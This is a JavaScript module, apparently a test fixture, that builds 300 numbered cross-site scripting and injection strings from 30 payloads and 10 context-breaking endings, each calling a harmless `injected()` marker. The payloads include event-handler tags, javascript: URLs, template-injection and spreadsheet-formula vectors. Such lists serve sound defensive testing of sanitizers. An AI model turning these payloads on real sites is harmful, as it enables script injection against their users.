// 300 texts that would call `injected` wherever a text is taken for markup or code. Each ends with its number, by which a page
// shows that it contains the text.
const call = 'injected()';

const markup = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}>`,
  `<iframe src=javascript:${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data=javascript:${call}>`,
  `<math><mtext><script>${call}</script>`,
  `<a href=javascript:${call}>x</a>`,
  `<form action=javascript:${call}><button>`,
  `<style onload=${call}></style>`,
  `<marquee onstart=${call}>`,
  `<template><script>${call}</script>`,
  `<base href=javascript:/>`,
  `<meta http-equiv=refresh content="0;javascript:${call}">`,
  `<link rel=stylesheet href=javascript:${call}>`,
];

const code = [
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `';${call};'`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `[x](javascript:${call})`,
  `]]><script>${call}</script>`,
  `=HYPERLINK("javascript:${call}")`,
  `\\u003cscript\\u003e${call}`,
];

/** Ends what the text may stand in: an attribute, a tag, a comment, a script. */
const endings = ['', '"', "'", '">', "'>", '-->', '</textarea>', '</title>', '</script>', '</style>'];

export const injections = [...markup, ...code].flatMap((text, i) =>
  endings.map((ending, k) => `${ending}${text} #${i * endings.length + k}#`),
);
